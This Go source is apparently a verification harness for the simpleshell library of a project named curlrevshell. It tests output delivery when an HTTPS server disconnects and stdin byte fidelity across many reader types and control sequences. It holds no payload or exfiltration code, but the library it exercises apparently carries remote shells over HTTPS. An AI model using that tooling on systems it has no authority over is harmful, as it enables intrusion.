	res.readK = until(bound, func() bool { return isClosed(readK) || isClosed(handlerDone) || goDone() }) && isClosed(readK)
	if !res.readK && !goDone() && !isClosed(handlerDone) {
		res.timedOut = true
	}
	if !res.readK && !res.timedOut {
		until(10*time.Second, goDone) // the request body ended by itself, or Go failed
	}
	if res.readK {
		// 2. the child is at the gate
		res.pointReached = until(10*time.Second, func() bool {
			rp := readReport(dir)
			return rp != nil && rp.Out >= e.AOut && rp.Err >= e.AErr
		})
		res.repAtLeave = readReport(dir)
		res.aliveAtLeave = childState(dir) == 1
		// 3. the server goes away
		close(leaveNow)
		res.serverLeft = until(10*time.Second, func() bool { return isClosed(left) })
		// 4. the child writes the first part; net/http closes Output()'s reader
		os.WriteFile(filepath.Join(dir, "go"), nil, 0o644)
		tc := time.Now()
		res.closedSeen = until(2*time.Second, func() bool { return isClosed(wo.closed) })
		res.aliveAtClose = childState(dir) == 1
		res.repAtClose = readReport(dir)
		res.sentAtClose = wo.read.Load()
		// 5. the child writes the second part and ends
		os.WriteFile(filepath.Join(dir, "go1"), nil, 0o644)
		if e.End == "ctx-kill" {
			until(10*time.Second, func() bool { rp := readReport(dir); return rp != nil && rp.Kind == "done" })
			cancel()
			res.cancelled = true
		}
		res.exitSeen = until(bound, func() bool { return childState(dir) == 2 })
		if !until(bound, goDone) {
			res.goHung = true
		} else {
			res.closeToReturn = time.Since(tc)
		}
	}
	if !res.goReturned {
		if pid := readPid(dir); pid != 0 {
			if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' && pi.ppid == os.Getpid() {
				res.killed = true
				syscall.Kill(pid, syscall.SIGKILL)
			}
		}
		closeStop()
		cancel()
		srv.Close()
		select {
		case res.goErr = <-goCh:
			res.goReturned = true
		case <-time.After(5 * time.Second):
		}
	}
	closeStop()
	if res.goReturned && cmd.ProcessState != nil {
		res.procKnown = true
		res.procSuccess = cmd.ProcessState.Success()
		res.procExit = cmd.ProcessState.ExitCode()
		res.procState = cmd.ProcessState.String()
		if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			res.procSignaled = true
			res.procSignal = ws.Signal()
		}
	}
	res.rep = readReport(dir)
	res.seen, _ = os.ReadFile(filepath.Join(dir, "stdin.seen"))
	cancel()
	if pid := readPid(dir); pid != 0 {
		if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' && pi.ppid == os.Getpid() {
			syscall.Kill(-pid, syscall.SIGKILL)
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
	// the handler is through with res before it is judged
	select {
	case <-handlerDone:
	case <-time.After(5 * time.Second):
	}
	return
}

// wroteAfterClose: the child's own account says it wrote after net/http had
// closed the reader it got from Output().
func (res *leaveE2EResult) wroteAfterClose() bool {
	if !res.closedSeen || res.rep == nil {
		return false
	}
	at := res.repAtClose
	return at == nil || res.rep.Out > at.Out || res.rep.Err > at.Err
}

func judgeLeaveE2E(e *leaveE2ESpec, res *leaveE2EResult) (v verdict) {
	c := e.C
	add := func(key, f string, a ...any) {
		v.viol = append(v.viol, finding{key + ":e2e", fmt.Sprintf(f, a...)})
	}
	if res.setupErr != "" {
		v.inconcl = append(v.inconcl, fmt.Sprintf("leave-e2e case %d: setup failed: %s", c.Index, res.setupErr))
		return
	}
	res.mu.Lock()
	defer res.mu.Unlock()
	if !res.handlerCalled {
		v.inconcl = append(v.inconcl, fmt.Sprintf("leave-e2e case %d: no request reached the server (Go: %s)", c.Index, errStr(res.goErr)))
		return
	}
	if res.leaveErr != "" {
		v.inconcl = append(v.inconcl, fmt.Sprintf("leave-e2e case %d: the server could not go away by %s: %s", c.Index, e.Way, res.leaveErr))
	}
	outB, errB, junk := splitAlphabets(res.got)
	v.gotOut, v.gotErr = len(outB), len(errB)
	if junk >= 0 {
		add("output-corrupt", "byte %#02x at offset %d of the request body belongs to neither descriptor's alphabet (context %q)", res.got[junk], junk, res.got[max(0, junk-8):min(len(res.got), junk+24)])
	}
	if i := firstBad(outB, 'a'); i >= 0 {
		add("output-corrupt", "stdout bytes in the request body are not the sequence the child wrote: first wrong byte at stdout offset %d (got %q, want %q) of %d received", i, outB[i], 'a'+byte(pos(i)), len(outB))
	}
	if i := firstBad(errB, 'A'); i >= 0 {
		add("output-corrupt", "stderr bytes in the request body are not the sequence the child wrote: first wrong byte at stderr offset %d (got %q, want %q) of %d received", i, errB[i], 'A'+byte(pos(i)), len(errB))
	}
	if len(outB) > c.NOut || len(errB) > c.NErr {
		add("output-corrupt", "more bytes in the request body than the child can have written: stdout %d of %d, stderr %d of %d", len(outB), c.NOut, len(errB), c.NErr)
	}
	if p := commonPrefix(res.seen, e.pre); p < len(res.seen) {
		if p < len(e.pre) {
			add("stdin-corrupt", "the child's stdin differs from the response body at offset %d (child saw %#02x, sent %#02x; %d seen, %d sent)", p, res.seen[p], e.pre[p], len(res.seen), len(e.pre))
		} else {
			add("stdin-corrupt", "the child saw %d bytes on stdin, only %d were sent", len(res.seen), len(e.pre))
		}
	}
	if res.timedOut {
		v.inconcl = append(v.inconcl, fmt.Sprintf("leave-e2e case %d: the server had read %d of the %d bytes it reads before going away when the bound expired", c.Index, len(res.got), e.K))
		return
	}
	if res.bodyEnded {
		// the stream ended by itself before the server could go away: judged
		// like any other end of the request body, against the child's account
		if rp := res.rep; rp != nil && !res.readK {
			if v.gotOut < rp.Out {
				add("stdout-truncated", "the request body ended (%s) after %d of the %d stdout bytes the child reports having written, before the server had the %d bytes it meant to read and while the response was open", errStr(res.bodyErr), v.gotOut, rp.Out, e.K)
			}
			if v.gotErr < rp.Err {
				add("stderr-truncated", "the request body ended (%s) after %d of the %d stderr bytes the child reports having written, before the server had the %d bytes it meant to read and while the response was open", errStr(res.bodyErr), v.gotErr, rp.Err, e.K)
			}
		}
	}
	switch {
	case res.goHung || !res.goReturned:
		v.inconcl = append(v.inconcl, fmt.Sprintf("leave-e2e case %d: simpleshell.Go had not returned when the bound expired (server gone: %v, Output() closed by net/http: %v, child exit seen: %v)", c.Index, res.serverLeft, res.closedSeen, res.exitSeen))
	case res.procKnown && !res.procSuccess && res.goErr == nil && !res.killed:
		how := fmt.Sprintf("the server had gone away by %s after %d bytes (net/http closed the reader it got from Output(): %v); the child reported %s then and %s in the end", e.Way, len(res.got), res.closedSeen, repStr(res.repAtClose), repStr(res.rep))
		if res.procSignaled {
			add("signal-death-not-reported", "the child was killed by a signal (wait status: %s) and simpleshell.Go returned nil; %s", res.procState, how)
		} else {
			add("nonzero-exit-not-reported", "the child exited with status %d and simpleshell.Go returned nil; %s", res.procExit, how)
		}
	}
	return
}

func witnessLeaveE2E(e *leaveE2ESpec, res *leaveE2EResult, v verdict, dir string) map[string]any {
	c := e.C
	_, text := c.script(dir)
	if len(text) > 6000 {
		text = text[:3000] + "\n…(plan shortened)…\n" + text[len(text)-1500:]
	}
	res.mu.Lock()
	defer res.mu.Unlock()
	return map[string]any{
		"child_script": text, "server_offers": e.Proto, "request_proto": res.proto, "server_goes_away_by": e.Way, "pause_before_going_ms": e.LagMs,
		"end_planned": e.End, "exit_status_planned": c.Exit, "killed_by_own_signal": c.Sig, "fingerprint_with_prefix": e.PinPrefix,
		"server_reads_bytes_planned": e.K, "server_read_bytes": len(res.got), "server_read_sizes": e.ReadChunks,
		"bytes_written_before_the_server_goes": []int{e.AOut, e.AErr}, "bytes_written_after_it_went": e.B1, "bytes_written_after_output_was_closed": e.B2,
		"early_input_bytes": e.PreN, "stdin_bytes_seen_by_child": len(res.seen), "child_drains_input_before_ending": e.DrainInput,
		"server_read_its_bytes": res.readK, "child_at_gate": res.pointReached, "child_running_when_server_went": res.aliveAtLeave, "server_gone": res.serverLeft,
		"output_reader_closed_by_net_http": res.closedSeen, "child_running_then": res.aliveAtClose, "bytes_net_http_had_taken_from_output": res.sentAtClose,
		"child_report_when_server_went": repStr(res.repAtLeave), "child_report_when_output_was_closed": repStr(res.repAtClose), "child_report_final": repStr(res.rep),
		"context_cancelled": res.cancelled, "child_exit_seen": res.exitSeen, "wait_status": res.procState,
		"stdout_bytes_received": v.gotOut, "stderr_bytes_received": v.gotErr,
		"go_returned": res.goReturned, "go_error": errStr(res.goErr), "wall_ms": res.wall.Milliseconds(),
	}
}

func runLeaveE2EEngine(r *mon.Run) {
	if !r.WantEngine(leaveE2EEngine) {
		return
	}
	n := r.N(48, 960)
	tl, err := newE2ETLS()
	if err != nil {
		r.Inconclusive("leave-e2e: cannot make a certificate: " + err.Error())
		return
	}
	var mu sync.Mutex
	sampled := 0

	one := func(i int) {
		e := genLeaveE2E(r, i)
		dir := filepath.Join(r.Work, fmt.Sprintf("le%d", i))
		res := runLeaveE2E(e, tl, dir, 30*time.Second)
		defer os.RemoveAll(dir)
		v := judgeLeaveE2E(e, res)
		r.Eval(1)
		r.Distinct(e.sig())
		res.mu.Lock()
		pname := strings.ReplaceAll(strings.ToLower(res.proto), "/", "")
		r.Count("leave_e2e_cases", 1)
		if res.goHung || !res.goReturned {
			r.Count("leave_e2e_go_did_not_return_in_time", 1)
		} else {
			r.Count("leave_e2e_go_returned_cases", 1)
		}
		if res.killed {
			r.Count("children_killed_by_harness", 1)
		}
		if res.handlerCalled && res.readK && res.pointReached && res.aliveAtLeave && res.serverLeft && res.leaveErr == "" {
			r.Count("leave_e2e_server_went_away_while_child_running_cases", 1)
			r.Count("leave_e2e_server_went_away_cases_"+pname, 1)
			r.Count("leave_e2e_way_"+e.Way+"_cases", 1)
			r.Count("leave_e2e_bytes_read_by_server_before_going", int64(len(res.got)))
			if len(res.got) >= pipeCap {
				r.Count("leave_e2e_server_went_after_1_pipe_buffer_or_more_cases", 1)
			}
			if res.closedSeen && res.aliveAtClose {
				r.Count("leave_e2e_output_closed_by_net_http_while_child_running_cases", 1)
				r.Count("leave_e2e_output_closed_by_net_http_while_child_running_cases_"+pname, 1)
			} else if !res.closedSeen {
				r.Count("leave_e2e_output_not_seen_closed_within_2s_cases", 1)
			}
			wrote := res.wroteAfterClose() && res.aliveAtClose
			if wrote {
				r.Count("leave_e2e_child_wrote_after_output_was_closed_cases", 1)
			}
			if res.goReturned && res.procKnown {
				kind := ""
				switch {
				case res.procSuccess:
					r.Count("leave_e2e_clean_exit_cases", 1)
					if res.goErr != nil {
						r.Count("leave_e2e_go_error_on_clean_exit", 1) // accepted either way
					}
				case res.cancelled && res.procSignaled && res.procSignal == syscall.SIGKILL:
					kind = "ended_by_context"
				case res.procSignaled && c14sig(e.C.Sig) == res.procSignal:
					kind = "signal_exit"
					r.Count("leave_e2e_signal_exit_cases_"+e.C.Sig, 1)
				case !res.procSignaled && e.C.Sig == "" && e.C.Exit != 0 && res.procExit == e.C.Exit:
					kind = "nonzero_exit"
				default:
					kind = "other_unsuccessful_exit"
				}
				if kind != "" {
					r.Count("leave_e2e_unsuccessful_exit_cases", 1)
					r.Count("leave_e2e_"+kind+"_cases", 1)
					if res.goErr != nil {
						r.Count("leave_e2e_unsuccessful_exit_reported", 1)
					}
					if wrote {
						r.Count("leave_e2e_unsuccessful_exit_after_writes_on_closed_output_cases", 1)
						r.Count("leave_e2e_unsuccessful_exit_after_writes_on_closed_output_cases_"+pname, 1)
						r.Count("leave_e2e_"+kind+"_after_writes_on_closed_output_cases", 1)
					}
				}
			}
		}
		res.mu.Unlock()
		if res.wall > 6*time.Second {
			r.Count("leave_e2e_cases_longer_than_6s", 1)
			r.Logf("leave-e2e case %d took %s: %s", i, res.wall.Round(time.Millisecond), e.sig())
		}
		if r.Replaying() {
			w := witnessLeaveE2E(e, res, v, dir)
			delete(w, "child_script")
			r.Logf("leave-e2e case %d: %v", i, w)
		}
		seen := map[string]bool{}
		for _, f := range v.viol {
			if seen[f.key] {
				continue
			}
			seen[f.key] = true
			r.Violate(leaveE2EEngine, i, f.key, e.desc()+": "+f.what, witnessLeaveE2E(e, res, v, dir))
		}
		for _, m := range v.inconcl {
			r.Inconclusive(m)
		}
		mu.Lock()
		take := sampled < 2 && len(e.C.Ops) <= 40 && res.wroteAfterClose() && res.procKnown && !res.procSuccess
		if take {
			sampled++
		}
		mu.Unlock()
		if take {
			r.Sample("leave-e2e", witnessLeaveE2E(e, res, v, dir))
		}
	}

	if r.Replaying() {
		for i := 0; i < n; i++ {
			if r.Want(leaveE2EEngine, i) {
				one(i)
			}
		}
		return
	}
	mon.Parallel(n, leaveE2EWorkers, one)

	N := int64(n)
	r.Floor("leave_e2e_cases", N)
	r.Floor("leave_e2e_go_returned_cases", N-N/16)
	r.Floor("leave_e2e_server_went_away_while_child_running_cases", N*9/10)
	r.Floor("leave_e2e_server_went_away_cases_http1.1", N/3)
	r.Floor("leave_e2e_server_went_away_cases_http2.0", N/3)
	for _, w := range []string{"conn-close", "conn-reset", "abort-handler", "handler-return"} {
		r.Floor("leave_e2e_way_"+w+"_cases", N/8)
	}
	for _, sg := range sigSet {
		r.Floor("leave_e2e_signal_exit_cases_"+sg, N/48)
	}
	r.Floor("leave_e2e_server_went_after_1_pipe_buffer_or_more_cases", N/6)
	r.Floor("leave_e2e_output_closed_by_net_http_while_child_running_cases", N/2)
	r.Floor("leave_e2e_output_closed_by_net_http_while_child_running_cases_http1.1", N/8)
	r.Floor("leave_e2e_output_closed_by_net_http_while_child_running_cases_http2.0", N/8)
	r.Floor("leave_e2e_child_wrote_after_output_was_closed_cases", N/3)
	r.Floor("leave_e2e_unsuccessful_exit_cases", N/2)
	r.Floor("leave_e2e_nonzero_exit_cases", N/6)
	r.Floor("leave_e2e_signal_exit_cases", N/6)
	r.Floor("leave_e2e_ended_by_context_cases", N/12)
	r.Floor("leave_e2e_clean_exit_cases", N/12)
	r.Floor("leave_e2e_unsuccessful_exit_after_writes_on_closed_output_cases", N/4)
	r.Floor("leave_e2e_unsuccessful_exit_after_writes_on_closed_output_cases_http1.1", N/16)
	r.Floor("leave_e2e_unsuccessful_exit_after_writes_on_closed_output_cases_http2.0", N/16)
}

func c14sig(name string) syscall.Signal {
	if name == "" {
		return 0
	}
	return sigNum[name]
}

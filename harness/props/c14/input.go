package c14

// Engine "input": fidelity of the INPUT side under chunking.  A cat-like child
// (perl: logs every byte of its stdin and echoes it; /bin/cat; a byte counter
// with a SHA-256) runs through simpleshell.NewCmdShell and gets its input
// through every kind of reader a caller may hand to SetInput - a reader that
// returns scripted chunks, io.Pipe, net.Pipe, a unix stream socket, os.Pipe, a
// regular file, bytes.Reader, io.MultiReader, bufio.Reader - and, through
// simpleshell.Go, the body of an HTTPS response (HTTP/1.1 and HTTP/2).  The
// content is built from chunks that BEGIN and END with byte sequences some
// layer might be tempted to treat specially: byte order marks, NUL, ^D, ^Z, ^C,
// CR, LF, CRLF, escape sequences, telnet IAC, ssh-style "~." escapes, invalid
// UTF-8, chunked-encoding look-alikes ...; sequences split across two chunks; a
// chunk that is nothing but one such sequence; a lone NUL chunk; zero-length
// reads between chunks.  The child must see exactly the bytes sent, in order,
// and the end of its input exactly when the reader ends.

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"log"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

const (
	inEngine   = "input"
	inWorkers  = 12
	inPerCase  = 5               // chunks per case whose leading sequence goes by index
	inSyncWait = 2 * time.Second // how long a chunk is held back for the child to have seen all before it
	inPadLen   = 4096
)

type inMagic struct {
	Name string
	B    string
}

// The sequences that lead and end chunks.
var inMagics = []inMagic{
	{"utf8-bom", "\xef\xbb\xbf"},
	{"utf8-bom-twice", "\xef\xbb\xbf\xef\xbb\xbf"},
	{"utf8-bom-first-2-bytes", "\xef\xbb"},
	{"utf8-bom-first-byte", "\xef"},
	{"utf16le-bom-ff-fe", "\xff\xfe"},
	{"utf16be-bom-fe-ff", "\xfe\xff"},
	{"utf32le-bom", "\xff\xfe\x00\x00"},
	{"utf32be-bom", "\x00\x00\xfe\xff"},
	{"utf7-bom", "+/v8"},
	{"gb18030-bom", "\x841\x953"},
	{"nul", "\x00"},
	{"nul-x4", "\x00\x00\x00\x00"},
	{"ctrl-d", "\x04"},
	{"ctrl-d-twice", "\x04\x04"},
	{"ctrl-z", "\x1a"},
	{"ctrl-c", "\x03"},
	{"ctrl-backslash", "\x1c"},
	{"ctrl-u", "\x15"},
	{"xoff", "\x13"},
	{"xon", "\x11"},
	{"dle", "\x10"},
	{"del", "\x7f"},
	{"backspace", "\x08"},
	{"bell", "\x07"},
	{"cr", "\r"},
	{"lf", "\n"},
	{"crlf", "\r\n"},
	{"lfcr", "\n\r"},
	{"lflf", "\n\n"},
	{"crlfcrlf", "\r\n\r\n"},
	{"esc", "\x1b"},
	{"esc-cursor-up", "\x1b[A"},
	{"esc-clear-screen", "\x1b[2J"},
	{"esc-reset", "\x1bc"},
	{"esc-osc-title", "\x1b]0;x\x07"},
	{"esc-paste-start", "\x1b[200~"},
	{"esc-paste-end", "\x1b[201~"},
	{"esc-device-attributes", "\x1b[c"},
	{"c1-csi", "\x9b"},
	{"byte-ff", "\xff"},
	{"iac-will-echo", "\xff\xfb\x01"},
	{"iac-iac", "\xff\xff"},
	{"iac-interrupt-process", "\xff\xf4"},
	{"iac-subnegotiation", "\xff\xfa\x1f\x00P\x00\x18\xff\xf0"},
	{"tilde-dot", "~."},
	{"lf-tilde-dot", "\n~."},
	{"cr-tilde-dot", "\r~."},
	{"tilde-ctrl-z", "~\x1a"},
	{"tilde-tilde", "~~"},
	{"plus-plus-plus", "+++"},
	{"overlong-nul-c0-80", "\xc0\x80"},
	{"utf8-surrogate", "\xed\xa0\x80"},
	{"lone-continuation-byte", "\x80"},
	{"byte-f8", "\xf8"},
	{"nbsp", "\xc2\xa0"},
	{"zero-width-space", "\xe2\x80\x8b"},
	{"replacement-char", "\xef\xbf\xbd"},
	{"chunked-terminator", "0\r\n\r\n"},
	{"http-status-line", "HTTP/1.1 200 OK\r\n"},
	{"eof-word-line", "EOF\n"},
	{"exit-line", "exit\n"},
}

// Sequences split across a chunk boundary: one chunk ends with A, the next
// begins with B.
var inSplits = []struct{ Name, A, B string }{
	{"cr|lf", "\r", "\n"},
	{"utf8-bom 1|2", "\xef", "\xbb\xbf"},
	{"utf8-bom 2|1", "\xef\xbb", "\xbf"},
	{"esc|[A", "\x1b", "[A"},
	{"esc[|A", "\x1b[", "A"},
	{"iac|will-echo", "\xff", "\xfb\x01"},
	{"tilde|dot", "~", "."},
	{"lf|tilde-dot", "\n", "~."},
	{"euro 2|1", "\xe2\x82", "\xac"},
	{"ff|fe", "\xff", "\xfe"},
	{"nul|nul", "\x00", "\x00"},
}

type inKind struct {
	Name    string
	Chunked bool // the chunk boundaries are the harness's: every chunk is what one Read returns
	Zero    bool // a zero-length read can be delivered
	Feeder  bool // a goroutine of the harness writes the chunks
	NeedLog bool // hand-over waits for the child's stdin log, so the child must keep one
	Hooks   bool // the harness sees every chunk go and the end of the input come (it drives the reader)
	HTTP    bool
}

var inKinds = []inKind{
	{Name: "scripted-reader", Chunked: true, Zero: true, Hooks: true},
	{Name: "io-pipe", Chunked: true, Zero: true, Feeder: true, Hooks: true},
	{Name: "net-pipe", Chunked: true, Zero: true, Feeder: true, Hooks: true},
	{Name: "unix-socket", Chunked: true, Feeder: true, NeedLog: true, Hooks: true},
	{Name: "multi-reader", Chunked: true},
	{Name: "os-pipe-file", Chunked: true, Feeder: true, NeedLog: true, Hooks: true},
	{Name: "http1-response-body", Chunked: true, NeedLog: true, Hooks: true, HTTP: true},
	{Name: "http2-response-body", Chunked: true, NeedLog: true, Hooks: true, HTTP: true},
	{Name: "bytes-reader"},
	{Name: "bufio-reader", Hooks: true},
	{Name: "regular-file"},
}

// inPlan: which (kind, q) a case of one round is.  Chunked kinds get
// ceil(M/inPerCase) cases (the leading sequences of their indexed chunks walk
// through all M), the others M cases (only the start of the stream counts).
type inSlot struct{ kind, q int }

var inRound = func() (p []inSlot) {
	m := len(inMagics)
	per := (m + inPerCase - 1) / inPerCase
	for q := 0; q < m; q++ {
		for k, kd := range inKinds {
			if kd.Chunked && q >= per {
				continue
			}
			p = append(p, inSlot{k, q})
		}
	}
	return
}()

type inChunk struct {
	B       []byte
	Head    int    // index of the sequence it begins with, -1 none
	Tail    int    // index of the sequence it ends with, -1 none
	Alone   bool   // nothing but the head sequence
	Zero    bool   // a zero-length read
	Split   int    // index of the split sequence whose second half it begins with, -1 none
	SplitA  int    // ... whose first half it ends with
	Pad     bool   // padding after the data (HTTP kinds)
	DelayUs int    // pause before it is handed over
	Note    string // for the witness
}

type inSpec struct {
	Index, Round, Q int
	Kind            inKind
	KindIdx         int
	Flavor          string // perl-log | bin-cat | sha256
	Chunks          []inChunk
	data            []byte
	Sync            bool // every chunk waits until the child has seen everything before it
	EOFHoldMs       int  // the reader ends this long after the child has seen the last byte
	EOFWithLast     bool // scripted reader: io.EOF comes with the last bytes
	ChildRead       int
	ConsChunk       int
}

func inFiller(rng *rand.Rand, n int) []byte {
	b := make([]byte, n)
	if rng.IntN(2) == 0 {
		const txt = "the quick brown fox jumps over the lazy dog 0123456789 "
		o := rng.IntN(len(txt))
		for i := range b {
			b[i] = txt[(o+i)%len(txt)]
		}
		return b
	}
	for i := range b {
		b[i] = byte(rng.Uint32())
	}
	return b
}

func genIn(r *mon.Run, i int) *inSpec {
	rng := r.Rng(inEngine, i)
	slot := inRound[i%len(inRound)]
	c := &inSpec{Index: i, Round: i / len(inRound), Q: slot.q, KindIdx: slot.kind, Kind: inKinds[slot.kind]}
	m := len(inMagics)
	off := c.Round * 3 // later rounds pair every kind with other neighbours
	fillSizes := []int{1, 2, 3, 13, 100, 100, 1000, 4093, 8192, 32761}
	if !c.Kind.Chunked {
		fillSizes = []int{1, 3, 13, 100, 1000}
	}
	var idx []inChunk
	for j := 0; j < inPerCase; j++ {
		var h int
		if c.Kind.Chunked {
			h = (c.Q*inPerCase + j + off) % m
		} else {
			h = (c.Q + off + j*7) % m // only j == 0 counts
		}
		t := (h + m/2) % m
		ch := inChunk{Head: h, Tail: -1, Split: -1, SplitA: -1}
		b := []byte(inMagics[h].B)
		switch (c.Q + j + c.Round + c.KindIdx) % 5 {
		case 0: // head, filler, tail
			b = append(b, inFiller(rng, pick(rng, fillSizes))...)
			b = append(b, inMagics[t].B...)
			ch.Tail = t
		case 1: // nothing but the sequence
			ch.Alone = true
		case 2: // head, filler
			b = append(b, inFiller(rng, pick(rng, fillSizes))...)
			b = append(b, 'x')
		case 3: // head, tail
			b = append(b, inMagics[t].B...)
			ch.Tail = t
		default: // the head twice, filler, tail
			b = append(b, inMagics[h].B...)
			b = append(b, inFiller(rng, pick(rng, fillSizes))...)
			b = append(b, inMagics[t].B...)
			ch.Tail = t
		}
		ch.B = b
		idx = append(idx, ch)
	}
	// Extras go between the indexed chunks (never before the first one, which
	// is the start of the stream).
	var extras []inChunk
	sp := (c.Q + c.KindIdx + c.Round) % len(inSplits)
	{
		a := append(inFiller(rng, pick(rng, []int{0, 1, 100, 4093})), inSplits[sp].A...)
		b := append([]byte(inSplits[sp].B), inFiller(rng, pick(rng, []int{0, 1, 100}))...)
		extras = append(extras, inChunk{B: a, Head: -1, Tail: -1, Split: -1, SplitA: sp, Note: "ends with the first half of " + inSplits[sp].Name},
			inChunk{B: b, Head: -1, Tail: -1, Split: sp, SplitA: -1, Note: "begins with the second half of " + inSplits[sp].Name})
	}
	lone := func(s string, note string) inChunk {
		return inChunk{B: []byte(s), Head: -1, Tail: -1, Split: -1, SplitA: -1, Note: note}
	}
	if c.Q%3 == 0 {
		extras = append(extras, lone("\x00", "a lone NUL"))
	}
	if c.Q%3 == 1 {
		extras = append(extras, lone("\r", "a lone CR"), lone("\n", "a lone LF"))
	}
	if c.Q%2 == 0 && c.Kind.Zero {
		z := lone("", "zero-length read")
		z.Zero = true
		extras = append(extras, z)
	}
	for k := rng.IntN(3); k > 0; k-- {
		extras = append(extras, inChunk{B: inFiller(rng, pick(rng, fillSizes)), Head: -1, Tail: -1, Split: -1, SplitA: -1, Note: "filler"})
	}
	// place: the split pair stays together, everything else at a random gap
	c.Chunks = idx
	insert := func(at int, cs ...inChunk) {
		c.Chunks = append(c.Chunks[:at], append(append([]inChunk{}, cs...), c.Chunks[at:]...)...)
	}
	insert(1+rng.IntN(len(c.Chunks)), extras[0], extras[1])
	for _, x := range extras[2:] {
		for {
			at := 1 + rng.IntN(len(c.Chunks))
			if at < len(c.Chunks) && c.Chunks[at].Split >= 0 { // not inside the split pair
				continue
			}
			insert(at, x)
			break
		}
	}
	for k := range c.Chunks {
		if rng.IntN(6) == 0 {
			c.Chunks[k].DelayUs = rng.IntN(1501)
		}
		c.data = append(c.data, c.Chunks[k].B...)
	}
	// flavour
	switch {
	case c.Kind.NeedLog:
		c.Flavor = "perl-log"
	default:
		c.Flavor = []string{"perl-log", "perl-log", "bin-cat", "sha256"}[(c.Q+c.KindIdx+c.Round)%4]
	}
	c.Sync = c.Kind.NeedLog || (c.Flavor == "perl-log" && rng.IntN(4) == 0)
	if c.Flavor == "perl-log" && c.Kind.Hooks && !c.Kind.HTTP {
		c.EOFHoldMs = []int{0, 10, 40}[(c.Q+c.KindIdx)%3]
	}
	if c.Kind.Name == "scripted-reader" && c.EOFHoldMs == 0 {
		c.EOFWithLast = c.Q%2 == 0
	}
	c.ChildRead = []int{65536, 65536, 4096, 100}[rng.IntN(4)]
	if len(c.data) <= 4096 && rng.IntN(4) == 0 {
		c.ChildRead = 1
	}
	c.ConsChunk = []int{65536, 65536, 4097, 100}[rng.IntN(4)]
	if len(c.data) > 8192 && c.ConsChunk == 100 {
		c.ConsChunk = 4097
	}
	if c.Kind.HTTP {
		c.Chunks = append(c.Chunks, inChunk{B: bytes.Repeat([]byte{'P'}, inPadLen), Head: -1, Tail: -1, Split: -1, SplitA: -1, Pad: true, Note: "padding after the data"})
	}
	return c
}

func (c *inSpec) sig() string {
	var b strings.Builder
	fmt.Fprintf(&b, "input|%s|%s|%d|%d|%v|%d|%d", c.Kind.Name, c.Flavor, c.EOFHoldMs, c.ChildRead, c.EOFWithLast, c.ConsChunk, len(c.data))
	for _, ch := range c.Chunks {
		fmt.Fprintf(&b, "|%d.%d.%d.%d", len(ch.B), ch.Head, ch.Tail, ch.Split)
	}
	return b.String()
}

// locate: which chunk offset off of the data lies in.
func (c *inSpec) locate(off int) (chunk, within int) {
	o := 0
	for k, ch := range c.Chunks {
		if off < o+len(ch.B) {
			return k, off - o
		}
		o += len(ch.B)
	}
	return len(c.Chunks), 0
}

// ---- child ----------------------------------------------------------------------

// inScript: need < 0 = read to the end of input, else exactly need bytes.
func (c *inSpec) inScript(dir string, need int) (prog string, args []string, text string) {
	switch c.Flavor {
	case "bin-cat":
		return "/bin/cat", nil, ""
	case "sha256":
		text = fmt.Sprintf("my $dir = '%s';\n%s", dir, perlCommon) + `use Digest::SHA;
binmode(STDIN);
my $d = Digest::SHA->new(256); my $n = 0;
while (1) {
	my $b; my $r = sysread(STDIN, $b, 65536);
	if (!defined $r) { next if $!{EINTR}; exit 97; }
	last if !$r;
	$d->add($b); $n += $r;
}
print "n=$n sha256=", $d->hexdigest, "\n";
exit 0;
`
		return "/usr/bin/perl", []string{filepath.Join(dir, "child")}, text
	}
	echo := 1
	if need >= 0 {
		echo = 0
	}
	text = fmt.Sprintf("my $dir = '%s';\n%s", dir, perlCommon) + fmt.Sprintf(`binmode(STDIN); binmode(STDOUT);
open(my $seen, '>', "$dir/stdin.seen") or exit 96; binmode($seen);
my $need = %d; my $echo = %d; my $chunk = %d;
my $got = 0; my $wr = 0;
while ($need < 0 || $got < $need) {
	my $want = $chunk; $want = $need - $got if $need >= 0 && $need - $got < $want;
	my $b; my $r = sysread(STDIN, $b, $want);
	if (!defined $r) { next if $!{EINTR}; put('report', "in=$got out=$wr readerr\n"); exit 97; }
	last if $r == 0;
	(syswrite($seen, $b) // -1) == $r or exit 96;
	$got += $r;
	my $o = 0;
	while ($echo && $o < $r) {
		my $k = syswrite(STDOUT, $b, $r - $o, $o);
		if (!defined $k) { next if $!{EINTR}; put('report', "in=$got out=$wr writeerr\n"); exit 97; }
		$o += $k; $wr += $k;
	}
}
close($seen);
put('report', "in=$got out=$wr " . (($need < 0 || $got < $need) ? 'eof' : 'full') . "\n");
syswrite(STDOUT, "done $got\n") if !$echo;
exit 0;
`, need, echo, c.ChildRead)
	return "/usr/bin/perl", []string{filepath.Join(dir, "child")}, text
}

type inReport struct {
	In, Out int
	Kind    string // eof | full | readerr | writeerr
}

func readInReport(dir string) *inReport {
	b, err := os.ReadFile(filepath.Join(dir, "report"))
	if err != nil {
		return nil
	}
	var rp inReport
	if n, _ := fmt.Sscanf(strings.TrimSpace(string(b)), "in=%d out=%d %s", &rp.In, &rp.Out, &rp.Kind); n != 3 {
		return nil
	}
	return &rp
}

// inWaitSeen waits (bounded) until the child's stdin log holds n bytes.  It
// only decides what is exercised: whether the next chunk is certain to be read
// on its own.
func inWaitSeen(dir string, n int, d time.Duration, stop <-chan struct{}) bool {
	path := filepath.Join(dir, "stdin.seen")
	dl := time.Now().Add(d)
	for {
		if fi, err := os.Stat(path); err == nil && fi.Size() >= int64(n) {
			return true
		}
		if time.Now().After(dl) || !nap(300*time.Microsecond, stop) {
			return false
		}
	}
}

// ---- hand-over ------------------------------------------------------------------

// inFeed is what the harness does on the input side of one case, whatever the
// kind of reader: it is driven chunk by chunk, either from inside Read
// (scripted reader) or by a goroutine that writes.
type inFeed struct {
	c    *inSpec
	dir  string
	stop <-chan struct{}

	mu         sync.Mutex
	sent       int // bytes handed over
	chunksDone int // chunks handed over
